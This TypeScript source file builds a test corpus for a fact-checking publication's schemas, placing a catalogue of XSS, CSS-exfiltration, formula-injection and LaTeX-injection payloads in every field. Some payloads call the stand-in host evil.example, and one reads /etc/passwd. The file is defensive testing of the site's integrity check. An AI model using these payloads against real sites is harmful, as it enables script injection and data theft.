/**
 * Generates a publication of attacks: every field in the schemas of the records with every class of payload. A new field is
 * included as soon as its schema has it. Payloads that the check rejects are removed; a site could be built from the rest.
 */

import type { z } from 'astro/zod'

import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

import { stringify } from 'yaml'

import type { Issue } from '../../src/integrity/issue.ts'

import { checkPublication } from '../../src/integrity/check.ts'
import { kinds } from '../../src/publication/schemas.ts'
import { readPublication } from '../../src/publication/read.ts'

/** The host that no page may request. */
export const foreignHost = 'evil.example'

/** The function that payloads call if they run. */
export const canary = 'canary'

const run = `${canary}()`
const far = `https://${foreignHost}`

/** The payloads, by names that can be file names. */
export const payloads: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script-src': `<SCRIPT/SRC=//${foreignHost}/x.js></SCRIPT>`,
  handler: `<img src=x onerror=${run}>`,
  svg: `<svg/onload=${run}>`,
  attribute: `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  'single-attribute': `' onfocus='${run}' autofocus='`,
  'closing-tags': `</title></style></textarea></p></div></main><script>${run}</script>`,
  'script-end': `</script><script>${run}</script>`,
  comment: `--><script>${run}</script><!--`,
  cdata: `]]><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  iframe: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  form: `<form action=javascript:${run}><button autofocus>a</button></form>`,
  details: `<details open ontoggle=${run}>a</details>`,
  style: `<style>@import url(${far}/a.css);*{background:url(${far}/a.png)}</style>`,
  'style-attribute': `<p style="background:url(${far}/a.png)">a</p>`,
  css: `;background:url(${far}/a.png);}*{background:url(${far}/b.png)}`,
  base: `<base href="${far}/">`,
  refresh: `<meta http-equiv=refresh content="0;url=${far}/">`,
  preload: `<link rel=preload as=image href=${far}/a.png>`,
  javascript: `javascript:${run}`,
  'javascript-odd': `\u0001java\nscript:${run}`,
  'javascript-entity': `java&#x73;cript&colon;${run}`,
  'javascript-case': ` JaVaScRiPt:${run}//`,
  vbscript: `vbscript:${run}`,
  data: `data:text/html,<script>${run}</script>`,
  'protocol-relative': `//${foreignHost}/a.png`,
  'far-address': `${far}/"onfocus="${run}`,
  'markdown-link': `[a](javascript:${run}) [b](data:text/html,<script>${run}</script>)`,
  'markdown-definition': `[a][b]\n\n[b]: javascript:${run}`,
  'markdown-picture': `![a](${far}/a.png) ![b](x"onerror="${run})`,
  'markdown-autolink': `<javascript:${run}> <${far}/"onclick="${run}>`,
  'markdown-html': `a <img src=${far}/a.png onerror=${run}> b`,
  'markdown-footnote': `[^a]\n\n[^a]: <script>${run}</script>`,
  braces: `{${run}} {{constructor.constructor('${run}')()}} \${${run}}`,
  template: `<% ${run} %> #{${run}} \`\${${run}}\``,
  esm: `import x from "${far}/x.js"\nexport const a = ${run}`,
  entities: `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  formula: `=HYPERLINK("${far}","a")`,
  'formula-command': `@SUM(1+1)*cmd|' /C calc'!A0`,
  lines: `a\r\nER  - \r\nTY  - BOOK\r\nTI  - b\r\n@article{c,\r\n`,
  latex: `}\\input{/etc/passwd}\\write18{id}{ % $x$ & # _ ~ ^`,
  separators: `a\u2028${run}\u2029b`,
  plain: 'P <0.05, a<b, R&D, <i>no</i> &amp; "x"',
}

/** A field of a record, and the payload in it. */
interface Attack {
  path: (string | number)[]
  payload: string
}

interface AttackedRecord {
  file: string
  data: Record<string, unknown>
  /** The text below the front matter, if the record has any. */
  body?: string
  attacks: Attack[]
}

/** The result of generating the corpus. */
export interface Corpus {
  /** The number of fields with a payload, and of their records. */
  kept: number
  /** Payloads that the check rejected, as `collection path: payload`. */
  refused: string[]
  /** Every field that was attacked, as `collection path`. */
  fields: Set<string>
}

const orcid = '0000-0002-1825-0097'

/** Texts of which every field accepts one. Those that can name a record name one that exists. */
const harmless = [
  'sample',
  '2022-04-06',
  'https://example.org/',
  'desk@example.org',
  orcid,
  'owner/name',
]

/**
 * Fields whose values only change which rules apply, or that cannot contain a payload: a name of another article, a number, a
 * picture that exists, the parts of a name, which is attacked itself.
 */
const untouched =
  /^(?:ignore|rules|draft|replyTo|csl|language|translations|background|schema|socialPicture|given|family|suffix)$/

/**
 * Writes the corpus into a folder, below `content/`.
 *
 * @returns what the check accepted; the content that is left has no errors
 */
export function writeCorpus(folder: string): Corpus {
  const records = Object.keys(payloads).flatMap((name) => attackedRecords(name))
  const ground = [...soundRecords(), attackedSite()]
  const corpus: Corpus = { kept: 0, refused: [], fields: new Set() }
  for (const { file, attacks } of [...records, ...ground])
    for (const { path } of attacks) corpus.fields.add(fieldName(file, path))
  const all = [...ground, ...records]
  for (let round = 0; round < 12; round += 1) {
    const errors = checkAll(folder, all)
    if (errors.length === 0) {
      corpus.kept = all.reduce((sum, { attacks }) => sum + attacks.length, 0)
      return corpus
    }
    takeOut(errors, all, folder, corpus)
  }
  const left = checkAll(folder, all).map(({ place, message }) => `${place.file}: ${message}`)
  throw new Error(`The corpus is refused for what is no payload.\n${left.slice(0, 20).join('\n')}`)
}

function checkAll(folder: string, records: readonly AttackedRecord[]): Issue[] {
  const content = join(folder, 'content')
  rmSync(content, { recursive: true, force: true })
  for (const { file, data, body } of records) {
    mkdirSync(dirname(join(content, file)), { recursive: true })
    const yaml = stringify(data, { lineWidth: 0, defaultStringType: 'QUOTE_DOUBLE' })
    writeFileSync(join(content, file), body === undefined ? yaml : `---\n${yaml}---\n\n${body}\n`)
  }
  const { issues } = checkPublication(readPublication(content), { today: '2026-11-22' })
  return issues.filter(({ severity }) => severity === 'error')
}

/** Removes the payload closest before each error or, if there is none, all payloads of the record. */
function takeOut(
  errors: readonly Issue[],
  records: AttackedRecord[],
  folder: string,
  corpus: Corpus,
): void {
  const { records: read, texts } = readPublication(join(folder, 'content'))
  const sources = new Map(
    [...Object.values(read), ...Object.values(texts)].flat().map((each) => [each.file, each]),
  )
  const written = new Map(records.map((record) => [record, [...record.attacks]]))
  for (const { place } of errors) {
    const record = records.find(({ file }) => join(folder, 'content', file) === place.file)
    if (!record) continue
    const source = sources.get(place.file)
    const before = (written.get(record) ?? [])
      .map((attack) => ({ attack, line: source?.placeOf(attack.path).line ?? 0 }))
      .filter(({ line }) => line > 0 && line <= place.line)
    const nearest = before.toSorted((one, other) => other.line - one.line)[0]?.attack
    const isInBody = record.body !== undefined && place.line > lineOfBody(record)
    if (isInBody) {
      const [collection = '', name = ''] = record.file.replace(/\.mdx?$/, '').split('/')
      const plain = bodyOf(collection, name)
      if (record.body !== plain) corpus.refused.push(`${collection} body: ${record.body ?? ''}`)
      record.body = plain
      continue
    }
    for (const attack of nearest ? [nearest] : record.attacks) {
      if (!record.attacks.includes(attack)) continue
      corpus.refused.push(`${fieldName(record.file, attack.path)}: ${attack.payload}`)
      takeBack(record.data, attack.path)
      record.attacks = record.attacks.filter((each) => each !== attack)
    }
  }
}

/** A text without a payload, which shows the records that have one. */
function bodyOf(collection: string, name: string): string {
  return collection === 'articles'
    ? `Something was studied [@${name}].\n\n<Verdict claim="${name}" />\n\n<Evidence claim="${name}" />\n\n## More\n\n<EvidenceMap claim="${name}">\n\nWhat was found.\n\n</EvidenceMap>`
    : 'Something was written.'
}

function lineOfBody({ data }: AttackedRecord): number {
  return stringify(data, { lineWidth: 0, defaultStringType: 'QUOTE_DOUBLE' }).split('\n').length + 1
}

/** Removes a payload: deletes the field if it is optional, or restores its harmless value. */
function takeBack(data: object, path: readonly (string | number)[]): void {
  const { values, optional } = grounds.get(data) ?? { values: new Map(), optional: new Set() }
  // Deletes a list together with its only element.
  const field = typeof path.at(-1) === 'number' ? path.slice(0, -1) : path
  const isOptional = optional.has(field.join('.'))
  const parent = valueAt(data, (isOptional ? field : path).slice(0, -1)) as Record<string, unknown>
  const last = String((isOptional ? field : path).at(-1))
  if (isOptional) Reflect.deleteProperty(parent, last)
  else parent[last] = values.get(path.join('.'))
}

/** The contents of a record without payloads: its harmless values and its optional fields. */
interface Ground {
  values: Map<string, unknown>
  optional: Set<string>
}

const grounds = new Map<object, Ground>()

/** The collections with one file per record, and the file of a record in each. */
const folders = {
  claims: (name: string) => `claims/${name}.yaml`,
  claimants: (name: string) => `claimants/${name}.yaml`,
  references: (name: string) => `references/${name}.yaml`,
  searches: (name: string) => `searches/search-${name}.yaml`,
  people: (name: string) => `people/${name}.yaml`,
  topics: (name: string) => `topics/${name}.yaml`,
  ratings: (name: string) => `ratings/${name}.yaml`,
  articles: (name: string) => `articles/${name}.mdx`,
  pages: (name: string) => `pages/${name}.mdx`,
  responses: (name: string) => `responses/sample/${name}.md`,
} as const

type Attacked = keyof typeof folders

/** Returns a record of each collection with one payload in every field that accepts it. */
function attackedRecords(name: string): AttackedRecord[] {
  const payload = payloads[name] ?? ''
  return (Object.keys(folders) as Attacked[]).map((collection) => {
    const { schema } = kinds[collection]
    const body = collection in { articles: 0, pages: 0, responses: 0 }
    return attack(folders[collection](`attack-${name}`), schema, payload, {
      ...(body ? { body: `${payload}\n\n${bodyOf(collection, `attack-${name}`)}` } : {}),
    })
  })
}

/** The settings of the publication are one record, so each field contains all payloads. */
function attackedSite(): AttackedRecord {
  const all = Object.values(payloads).join(' ')
  const site = attack('site.yaml', kinds.site.schema, all, {})
  Object.assign(site.data, { url: 'https://example.org/', csl: 'vancouver', language: 'en' })
  site.attacks = site.attacks.filter(({ path }) => path[0] !== 'url')
  return site
}

/** The records that the others refer to. */
function soundRecords(): AttackedRecord[] {
  return (Object.keys(folders) as Attacked[])
    .filter((collection) => collection !== 'searches')
    .map((collection) => {
      const body = collection in { articles: 0, pages: 0, responses: 0 }
      const name = collection === 'pages' ? 'sample-page' : 'sample'
      const record = attack(folders[collection](name), kinds[collection].schema, undefined, {
        ...(body ? { body: bodyOf(collection, 'sample') } : {}),
      })
      return record
    })
}

function attack(
  file: string,
  schema: z.ZodType,
  payload: string | undefined,
  more: { body?: string },
): AttackedRecord {
  const attacks: Attack[] = []
  const ground: Ground = { values: new Map(), optional: new Set() }
  const { values } = ground
  const data = fill(schema, payload, [], attacks, ground) as Record<string, unknown>
  // Names that two records cannot share.
  for (const field of ['title', 'name', 'statement', 'label', 'description'])
    if (values.get(field) === 'sample') values.set(field, `What ${file} is about`)
  if (payload === undefined)
    for (const [field, value] of values)
      if (field in data && !field.includes('.')) data[field] = value
  grounds.set(data, ground)
  adjust(file, data)
  return {
    file,
    data,
    attacks: attacks.filter(({ path, payload: put }) => valueAt(data, path) === put),
    ...more,
  }
}

function valueAt(data: unknown, path: readonly (string | number)[]): unknown {
  return path.reduce<unknown>(
    (part, step) => (part as Record<string | number, unknown> | undefined)?.[step],
    data,
  )
}

/** Fields that depend on each other in ways that no schema describes. */
function adjust(file: string, data: Record<string, unknown>): void {
  delete data['aliases']
  if (file.startsWith('articles/')) {
    const name = /([^/]+)\.mdx$/.exec(file)?.[1] ?? ''
    // One article shows all records with the same payload.
    for (const field of ['claims', 'authors', 'topics']) data[field] = [name]
    // People cannot review what they wrote, and a verdict cannot change to itself.
    const other = name === 'sample' ? 'attack-plain' : 'sample'
    data['reviewers'] = [other]
    for (const revision of data['revisions'] as Record<string, unknown>[])
      Object.assign(revision, { kind: 'verdict-change', from: other, to: name, claim: name })
    data['nocite'] = [`@search-attack-script`]
    data['reviewBy'] = '2030-01-01'
    delete data['cover']
    delete data['csl']
  }
  if (file.startsWith('claims/')) {
    const name = /([^/]+)\.yaml$/.exec(file)?.[1] ?? ''
    data['rating'] = name
    // One claimant has a record, and the other has none.
    const claimants = data['claimants'] as Record<string, unknown>[]
    for (const claimant of claimants) delete claimant['claimant']
    // Without a record, a claimant needs a name, and without an address, a place needs words.
    for (const field of ['claimants.0.name', 'appearances.0.where'])
      grounds.get(data)?.optional.delete(field)
    claimants.push({ claimant: name })
    for (const appearance of data['appearances'] as Record<string, unknown>[]) {
      appearance['claimant'] = name
      delete appearance['first']
    }
    for (const study of (data['evidence'] ?? []) as Record<string, unknown>[]) {
      study['reference'] = name
      // Which domains there are depends on the tool; none of them is text.
      delete (study['riskOfBias'] as Record<string, unknown>)['domains']
    }
    for (const outcome of (data['outcomes'] ?? []) as Record<string, unknown>[]) {
      outcome['sources'] = [name]
      for (const result of (outcome['results'] ?? []) as Record<string, unknown>[])
        result['reference'] = name
    }
  }
  // Two people cannot have the same iD.
  if (file.startsWith('people/') && file !== 'people/sample.yaml' && data['orcid'] === orcid)
    Reflect.deleteProperty(data, 'orcid')
  if (file.startsWith('ratings/')) {
    data['order'] = Math.max(
      0,
      Object.keys(payloads).findIndex((name) => file.includes(`/attack-${name}.`)) + 1,
    )
    delete data['value']
  }
  if (file.startsWith('references/')) {
    for (const field of ['DOI', 'PMID', 'PMCID', 'ISBN', 'ISSN'])
      if (data[field] === 'sample') Reflect.deleteProperty(data, field)
    delete data['health']
    data['type'] ??= 'book'
  }
}

interface Definition {
  type: string
  innerType?: z.ZodType
  in?: z.ZodType
  element?: z.ZodType
  shape?: Record<string, z.ZodType>
  options?: readonly z.ZodType[]
  entries?: Record<string, string>
  values?: readonly unknown[]
}

/** Returns a value that a schema accepts, with all optional fields, and the payload in every text that accepts it. */
function fill(
  schema: z.ZodType,
  payload: string | undefined,
  path: (string | number)[],
  attacks: Attack[],
  ground: Ground,
): unknown {
  const definition = schema.def as unknown as Definition
  const inner = definition.innerType ?? definition.in
  if (inner) {
    // A default can have a type that authors cannot write.
    return fill(inner, payload, path, attacks, ground)
  }
  switch (definition.type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(definition.shape ?? {}).flatMap(([name, field]) => {
          if (untouched.test(name)) return []
          if (field.safeParse(undefined).success) ground.optional.add([...path, name].join('.'))
          const value = fill(field, payload, [...path, name], attacks, ground)
          return value === undefined ? [] : [[name, value]]
        }),
      )
    case 'array':
      return definition.element
        ? [fill(definition.element, payload, [...path, 0], attacks, ground)]
        : []
    case 'union': {
      const options = (definition.options ?? []).map((option) => {
        const tried: Attack[] = []
        return { value: fill(option, payload, path, tried, ground), tried }
      })
      const chosen = options
        .filter(({ value }) => value !== undefined && schema.safeParse(value).success)
        .toSorted((one, other) => other.tried.length - one.tried.length)[0]
      attacks.push(...(chosen?.tried ?? []))
      return chosen?.value ?? textFor(schema, payload, path, attacks, ground)
    }
    case 'enum':
      return Object.values(definition.entries ?? {})[0]
    case 'literal':
      return definition.values?.[0]
    case 'number':
      return [3, 1].find((value) => schema.safeParse(value).success)
    case 'boolean':
      return undefined
    case 'string':
      return textFor(schema, payload, path, attacks, ground)
    default:
      return undefined
  }
}

function textFor(
  schema: z.ZodType,
  payload: string | undefined,
  path: (string | number)[],
  attacks: Attack[],
  ground: Ground,
): unknown {
  const plain = harmless.find((value) => schema.safeParse(value).success)
  ground.values.set(path.join('.'), plain)
  if (payload === undefined) return plain
  const [fitting] = [payload, payload.slice(0, 200)].filter(
    (value) => schema.safeParse(value).success,
  )
  if (fitting === undefined) return plain
  if (!attacks.some((each) => each.path.join('.') === path.join('.')))
    attacks.push({ path, payload: fitting })
  return fitting
}

function fieldName(file: string, path: readonly (string | number)[]): string {
  return `${file.split('/')[0]} ${path.join('.')}`
}
